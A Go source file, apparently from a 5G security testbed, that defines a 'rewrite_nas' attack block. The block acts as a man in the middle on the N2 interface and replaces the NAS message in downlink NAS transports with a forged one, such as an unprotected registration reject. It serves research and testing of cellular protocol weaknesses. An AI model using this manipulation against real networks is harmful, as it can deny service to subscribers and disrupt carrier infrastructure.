package blocks

import (
	"context"
	"fmt"

	"github.com/credbed/credbed/internal/ngapx"
	"github.com/credbed/credbed/internal/trace"
	"github.com/credbed/credbed/internal/transport"
	"github.com/credbed/credbed/scenarios"
)

// RewriteNASArgs are the arguments of rewrite_nas.
type RewriteNASArgs struct {
	Selector  `yaml:",inline"`
	ForgedNAS `yaml:",inline"`
}

// Validate checks both halves.
func (a *RewriteNASArgs) Validate() error {
	if err := a.Selector.Validate(); err != nil {
		return err
	}
	return a.ForgedNAS.Validate()
}

// Ifaces are the selector's and N1.
func (a *RewriteNASArgs) Ifaces() []string {
	return append(a.Selector.Ifaces(), a.ForgedNAS.Ifaces()...)
}

// RewriteNAS is the man in the middle on N2 (or a false base station)
// replacing the NAS message of selected DOWNLINK NAS TRANSPORTs by a forged
// one, keeping the UE's NGAP context: e.g. an AUTHENTICATION REQUEST turned
// into an unprotected REGISTRATION REJECT (reference/3gpp.md §6.3 X4).
func RewriteNAS() *scenarios.Block {
	return scenarios.NewCapability("rewrite_nas", AttackSpec(
		"replace the NAS message of selected downlink NAS transports by a forged one (reject, deregistration)",
	), func(_ context.Context, st *scenarios.State, actor string, a *RewriteNASArgs) (any, error) {
		nas, err := a.ForgedNAS.Build()
		if err != nil {
			return nil, err
		}
		what := a.ForgedNAS.describe()
		return InstallSelected(st, &a.Selector, trace.KindAttack, actor, "rewrite_nas", func(rep *Reporter, p transport.Packet) []transport.Packet {
			v, ok := ViewN2(p)
			if !ok || v.NGAP != "DownlinkNASTransport" {
				return []transport.Packet{p}
			}
			b, err := (&ngapx.DownlinkNASTransport{AMFUENGAPID: v.IDs.AMF, RANUENGAPID: v.IDs.RAN, NASPDU: nas}).Build()
			if err != nil {
				return []transport.Packet{p}
			}
			rep.Act(p, fmt.Sprintf("replaced %s by %s", v.NASName(), what))
			q := p.Clone()
			q.Payload = b
			return []transport.Packet{q}
		})
	})
}
